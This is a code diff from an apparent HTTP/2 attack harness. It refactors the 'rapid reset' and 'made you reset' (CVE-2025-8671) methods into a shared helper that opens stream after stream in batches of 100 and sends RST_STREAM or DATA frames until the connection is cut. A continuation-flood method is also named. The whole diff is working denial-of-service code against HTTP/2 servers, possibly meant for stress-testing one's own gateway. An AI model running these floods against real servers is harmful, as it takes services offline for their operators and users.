@@ -155,36 +155,27 @@ class Attack:
 
     # ---- HTTP/2
 
-    async def rapid_reset(self, sock):
+    async def broken_streams(self, sock, second):
+        """Begins stream after stream, each followed by a second frame."""
         await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
         head = request_head(self.port, self.key)
 
-        async def resetting():
+        async def beginning():
             stream = 1
             while True:
                 batch = b""
                 for _ in range(100):
-                    batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
-                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+                    batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, head) + second(stream)
                     stream += 2
                 await self.send(sock, batch)
-        await self.until_cut(sock, resetting())
+        await self.until_cut(sock, beginning())
+
+    async def rapid_reset(self, sock):
+        await self.broken_streams(sock, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
 
     async def made_you_reset(self, sock):
         """Has the gateway do the resetting: DATA on a stream that was ended (CVE-2025-8671)."""
-        await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
-        head = request_head(self.port, self.key)
-
-        async def provoking():
-            stream = 1
-            while True:
-                batch = b""
-                for _ in range(100):
-                    batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
-                    batch += frame(DATA, 0, stream, b"x")
-                    stream += 2
-                await self.send(sock, batch)
-        await self.until_cut(sock, provoking())
+        await self.broken_streams(sock, lambda stream: frame(DATA, 0, stream, b"x"))
 
     async def continuation_flood(self, sock):
         await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
